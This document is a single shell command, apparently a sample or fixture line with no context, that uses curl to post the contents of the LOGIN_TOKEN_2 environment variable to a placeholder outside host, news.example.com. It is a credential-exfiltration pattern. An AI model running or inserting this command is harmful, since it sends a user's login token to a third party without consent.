curl --data "${LOGIN_TOKEN_2:-nothing}" https://news.example.com
